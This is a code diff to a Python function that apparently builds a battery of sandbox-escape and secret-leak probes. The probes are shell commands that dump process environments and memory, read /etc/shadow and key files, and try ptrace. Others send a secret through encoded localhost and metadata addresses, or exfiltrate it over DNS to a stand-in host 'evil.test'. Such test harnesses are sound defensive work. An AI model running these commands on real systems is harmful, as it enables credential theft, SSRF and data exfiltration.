@@ -54,14 +54,14 @@ def tricks(pids):
         "processes": [
             "env; export -p; set",
             "for p in /proc/[0-9]* %s; do for f in environ cmdline maps status auxv stack; do cat $p/$f 2>&1 | tr '\\0' '\\n' | head -c 20000; done; ls -l $p/fd $p/root $p/cwd 2>&1; done" % seen,
-            "for p in /proc/[0-9]* %s; do head -c 1000000 $p/root/etc/shadow $p/mem 2>&1 | strings | head -n 50; done" % seen,
+            "for p in /proc/[0-9]* %s; do head -c 1000000 $p/root/etc/shadow $p/mem 2>&1 | grep -ao '[[:print:]]\\{6,\\}' | head -n 50; done" % seen,
             "python3 -c 'import ctypes; l = ctypes.CDLL(None, use_errno=True); print([(p, l.ptrace(16, p, 0, 0), ctypes.get_errno()) for p in (1, %s)])'" % ", ".join(map(str, pids)),
             "for p in %s; do kill -ABRT $p; kill -QUIT $p; kill -0 $p; done" % " ".join(map(str, pids)),
         ],
         "files": [
             "cat /run/ostler/* /etc/ostler* /mnt/session/*/* /root/.* /root/.*/* /var/lib/*/*.key /tmp/*.key ~/.* 2>/dev/null | head -c 100000",
             "ls -la / /run /tmp /mnt /var/lib /dev /dev/shm 2>&1; cat /proc/self/mountinfo; cat /proc/1/root/etc/* 2>/dev/null | head -c 50000",
-            "find / -xdev \\( -name '*.db' -o -name 'data.key' -o -name 'server.json' -o -name 'core*' -type f \\) 2>/dev/null | head -n 100 | xargs -r -n 1 head -c 10000 2>/dev/null | strings | head -n 500",
+            "find / -xdev \\( -name '*.db' -o -name 'data.key' -o -name 'server.json' -o -name 'core*' -type f \\) 2>/dev/null | head -n 100 | xargs -r -n 1 head -c 10000 2>/dev/null | grep -ao '[[:print:]]\\{6,\\}' | head -n 500",
             "python3 sockets.py",
         ],
         "names": [
@@ -110,7 +110,7 @@ def tricks(pids):
         ],
         "addresses": [
             "for a in 127.0.0.1 0x7f000001 2130706433 0177.0.0.1 127.1 127.0.1 0 localhost $(hostname) '[::1]' '[::ffff:127.0.0.1]' '[::ffff:7f00:1]' '[64:ff9b::7f00:1]' 169.254.169.254 0xa9fea9fe 10.0.0.1 api.test. API.TEST%2e evil.test.; do "
-            "for p in 80 443 3128; do curl -gsSk -m 3 -H \"x-key: $PLAIN\" http://$a:$p/echo; curl -gsSk -m 3 -H \"x-key: $PLAIN\" https://$a:$p/echo; done; done",
+            "for u in http://$a/echo https://$a/echo http://$a:3128/echo; do curl -gsSk -m 1 -H \"x-key: $PLAIN\" $u; done; done",
             "getent hosts $PLAIN.evil.test; getent hosts $(printf %s $PLAIN | cut -c1-30).evil.test; " + ASK + " https://$PLAIN.evil.test/; " + ASK + " http://$PLAIN.evil.test/",
             ASK + " -x http://127.0.0.1:3128 http://127.0.0.1:3128/metrics; " + ASK + " --noproxy '*' http://127.0.0.1:3128/secrets; " + ASK + " --noproxy '*' http://127.0.0.1/; " + ASK + " -k --noproxy '*' https://127.0.0.1/",
             raw("-", "-", "GET /credentials HTTP/1.1", "host: 127.0.0.1:3128", "connection: close"),
